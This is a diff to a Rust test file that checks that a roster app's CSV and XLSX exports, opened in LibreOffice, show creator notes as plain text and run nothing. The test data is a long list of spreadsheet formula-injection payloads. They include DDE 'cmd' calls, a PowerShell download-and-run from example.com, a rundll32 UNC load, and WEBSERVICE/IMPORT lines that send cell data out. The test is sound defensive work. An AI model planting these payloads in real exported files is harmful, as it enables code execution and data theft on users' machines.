@@ -1,5 +1,5 @@
-//! Saved files as LibreOffice sees them: the same values, and nothing that runs. Where it is not installed (Debian:
-//! libreoffice-calc-nogui) there is nothing to compare with, and the tests say so.
+//! Saved files as LibreOffice sees them: the same values, and nothing that runs. `cargo xtask test` installs it; elsewhere
+//! there may be none (Debian: libreoffice-calc-nogui), nothing to compare with, and the tests say so.
 #![allow(clippy::unwrap_used, clippy::expect_used)]
 
 use std::path::{Path, PathBuf};
@@ -12,37 +12,84 @@ use tierwise_roster::export;
 use tierwise_roster::wire::Format;
 use tierwise_roster::{Change, Roster, Twice, Who};
 
-/// What spreadsheets are made to run with (OWASP, PayloadsAllTheThings), and the ways around guards against it.
-const PAYLOADS: [&str; 24] = [
+/// What spreadsheets are made to run with: the shapes in the lists of OWASP, PayloadsAllTheThings, payloadbox, nuclei and
+/// others, without the hosts they name.
+const PAYLOADS: [&str; 50] = [
     "=1+1",
-    "+1+1",
-    "-1+1",
-    "@SUM(1+1)",
-    "\t=1+1",
-    "\r=1+1",
-    "\n=1+1",
-    "\0=1+1",
-    "＝1+1",
-    "＋1+1",
-    "－1+1",
-    "＠SUM(1+1)",
-    " =1+1",
-    "   =1+1",
-    "\u{a0}=1+1",
-    "\u{feff}=1+1",
-    "'=1+1",
-    "''=1+1",
-    "=cmd|' /C calc'!A0",
+    "=1+1\";=1+1",
+    "=1+1,=1+1",
+    "=SUM(1+1)*cmd|' /C calc'!A0",
+    "@SUM(1+9)*cmd|' /C calc'!A0",
+    "=2+5+cmd|' /C calc'!A0",
     "=10+20+cmd|' /C calc'!A0",
+    "-2+3+cmd|'/C calc'!A1",
+    "-1-cmd|'/C calc'!'A1'",
+    "--1-cmd|'/C calc'!'A1'",
+    "\\---1-cmd|'/C calc'!'A1'",
+    "\"--1-cmd|'/C calc'!'A1'",
+    "+cmd|'/C calc'!A0",
+    "+hack(cmd|'/c calc.exe'!A",
+    "=hack/cmd|'/c calc.exe'!A",
+    "=cmd|' /C notepad'!'A1'",
+    "=cmd|'/C calc'!A1@example.com",
+    "=cmd|'/C powershell IEX(wget example.com/shell.exe)'!A0",
+    "=cmd|'/c rundll32.exe \\\\192.0.2.1\\3\\2\\1.dll,0'!_xlbgnm.A1",
+    "=AAAA+BBBB-CCCC&\"Hello\"/12345&cmd|'/c calc.exe'!A",
+    "=cmd|'/c calc.exe'!A*cmd|'/c calc.exe'!A",
+    "=         cmd|'/c calc.exe'!A",
+    "=\tc\tm\td\t|'/C notepad'!'A2'",
+    "=\ncmd|'/C calc'!A1",
+    "=    C    m D     |    '/    c   c  al  c  .  e     x   e  '   !   A",
+    "=\0C\0m\0d|'/C calc'!A0",
+    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
+    "=rundll321234567890abcdefghijklmnopqrstuvwxyz|'URL.dll,OpenURL calc.exe'!A",
+    "-1-rundll32|'URL.dll,OpenURL calc'!A",
+    "DDE(\"cmd\";\"/C calc\";\"!A0\")A0",
     "=DDE(\"cmd\";\"/C calc\";\"x\")",
+    "=EXEC(\"calc.exe\")",
+    "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!A0",
     "=HYPERLINK(\"http://example.com?x=\"&A1,\"look\")",
+    "@HYPERLINK(CHAR(34)&\"file:///C:/calc.exe\"&CHAR(34))",
+    "=HYPERLINK(T(\"file:///C:/cmd.exe\"), \"click\")",
+    "=WEBSERVICE(\"http://example.com\")",
+    "@WEBSERVICE(CHAR(104)&CHAR(116)&CHAR(116)&CHAR(112))",
     "=IMPORTXML(CONCAT(\"http://example.com?v=\", A1), \"//a\")",
-    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "=IMPORTHTML(\"http://example.com\", \"table\", 1)",
+    "=IMPORTDATA(\"http://example.com\")",
+    "=IMPORTFEED(\"http://example.com\")",
+    "=IMPORTRANGE(\"http://example.com\", \"A1\")",
+    "='file:///etc/hostname'#$hostname.A1",
+    "{=1+1}",
+    "parts\" ;,=cmd|'/C notepad'!'A1'",
+    "parts\",=cmd|'/C notepad'!'A1''\" ;,=cmd|'/C notepad'!'A2'",
+    "<r><t>=1+1</t></r>",
+    "–1+1",
+    "−1+1",
 ];
+
+/// What may stand before a formula, to get by a guard.
+const BEFORE: [&str; 14] = [
+    "", " ", "   ", "\t", "\r", "\n", "\r\n", "\0", "\u{a0}", "\u{200b}", "\u{feff}", "'", "''",
+    "\"",
+];
+/// What a formula begins with, wide forms included.
+const TRIGGERS: [char; 8] = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];
+
+/// Everything that is tried.
+fn payloads() -> Vec<String> {
+    let around = BEFORE
+        .iter()
+        .flat_map(|before| TRIGGERS.map(|sign| format!("{before}{sign}1+1")));
+    PAYLOADS
+        .map(str::to_owned)
+        .into_iter()
+        .chain(around)
+        .collect()
+}
 
 fn roster() -> Roster {
     let mut roster = Roster::default();
-    for (at, payload) in PAYLOADS.iter().enumerate() {
+    for (at, payload) in payloads().into_iter().enumerate() {
         let profile = Profile {
             network: Some(Network::Instagram),
             handle: format!("maker{at}"),
@@ -53,7 +100,7 @@ fn roster() -> Roster {
         let creator = Creator {
             name: format!("Maker {at}"),
             profiles: vec![profile],
-            notes: (*payload).to_owned(),
+            notes: payload,
             ..Creator::default()
         };
         roster.add(&creator, Twice::Keep, &mut Change::default());
@@ -110,7 +157,10 @@ fn a_spreadsheet_shows_what_is_there_and_runs_nothing() {
     let whose: Vec<Who> = roster.everybody().map(|(who, _)| who).collect();
     let there: Vec<Creator> = roster.everybody().map(|(_, p)| roster.creator(p)).collect();
     for format in [Format::Csv, Format::Xlsx] {
-        let bytes = export::roster(&roster, &whose, format);
+        let mut bytes = export::roster(&roster, &whose, format);
+        if format == Format::Xlsx {
+            bytes = tierwise_workbook::write(&bytes).unwrap();
+        }
         let Some(seen) = opened(&format!("tierwise.{}", format.ending()), &bytes) else {
             return;
         };
@@ -132,7 +182,8 @@ fn a_spreadsheet_shows_what_is_there_and_runs_nothing() {
 
 /// Without what no cell of a spreadsheet can hold: LibreOffice drops control characters and ends lines its own way.
 fn plain(text: &str) -> String {
-    text.replace(['\r', '\0'], "\n")
+    text.replace('\0', "")
+        .replace('\r', "\n")
         .trim_start_matches(['\n', '\u{feff}'])
         .to_owned()
 }
